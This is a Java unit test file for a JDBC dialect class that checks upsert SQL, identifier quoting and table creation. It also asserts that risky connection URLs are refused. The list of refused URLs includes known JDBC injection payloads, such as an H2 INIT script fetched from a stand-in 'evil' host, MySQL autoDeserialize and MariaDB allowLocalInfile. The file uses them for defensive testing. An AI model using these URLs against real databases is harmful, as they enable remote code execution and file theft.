package dev.sluice.connector.jdbc;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.sluice.error.ErrorCode;
import dev.sluice.error.UserError;
import dev.sluice.plan.TableRef;
import dev.sluice.type.DataType;
import dev.sluice.type.DataType.Field;
import dev.sluice.type.DataType.Kind;
import dev.sluice.type.Schema;
import java.util.List;
import java.util.Map;
import java.util.Set;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Generated SQL, and the URLs that are refused without a connection. */
class JdbcDialectTest {
  private static final TableRef TABLE =
      new TableRef(
          "t",
          "jdbc",
          Map.of(),
          Set.of(),
          Schema.of(
              new Field("k", DataType.string().notNull()),
              new Field("n", DataType.of(Kind.BIGINT))),
          Map.of(),
          List.of("k"),
          List.of());

  @ParameterizedTest
  @ValueSource(
      strings = {
        "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
        "jdbc:h2:mem:x;trace_level_system_out=3",
        "jdbc:h2:mem:x;%49NIT=x",
        "jdbc:mysql://h/db?autoDeserialize=true",
        "jdbc:mariadb://h/db?allowLocalInfile=true",
        "jdbc:postgresql://h/db?socketFactory=x",
        "jdbc:oracle:thin:@h"
      })
  void refusesUrlsWithParametersThatAreNotKnownToBeHarmless(String url) {
    assertThatThrownBy(() -> JdbcDialect.of(TABLE, url))
        .isInstanceOfSatisfying(
            UserError.class, e -> assertThat(e.code()).isEqualTo(ErrorCode.OPTION_VALUE));
  }

  @Test
  void writesUpsertsInEveryDialect() {
    List<String> columns = List.of("k", "n");
    List<String> key = List.of("k");
    assertThat(JdbcDialect.H2.upsert("\"t\"", columns, key))
        .isEqualTo("MERGE INTO \"t\" (\"k\", \"n\") KEY (\"k\") VALUES (?, ?)");
    assertThat(JdbcDialect.POSTGRESQL.upsert("\"t\"", columns, key))
        .isEqualTo(
            "INSERT INTO \"t\" (\"k\", \"n\") VALUES (?, ?) ON CONFLICT (\"k\") DO UPDATE SET \"n\""
                + " = EXCLUDED.\"n\"");
    assertThat(JdbcDialect.MARIADB.upsert("`t`", columns, key))
        .isEqualTo(
            "INSERT INTO `t` (`k`, `n`) VALUES (?, ?) ON DUPLICATE KEY UPDATE `k` = VALUES(`k`),"
                + " `n` = VALUES(`n`)");
  }

  @Test
  void quotesQuotesInNames() {
    assertThat(JdbcDialect.H2.quote("a\"b")).isEqualTo("\"a\"\"b\"");
    assertThat(JdbcDialect.MARIADB.quote("a`b")).isEqualTo("`a``b`");
  }

  @Test
  void makesTablesWithTheirKey() {
    assertThat(JdbcDialect.H2.create(TABLE, "\"t\""))
        .isEqualTo(
            "CREATE TABLE \"t\" (\"K\" VARCHAR NOT NULL, \"N\" BIGINT, PRIMARY KEY (\"K\"))");
  }
}
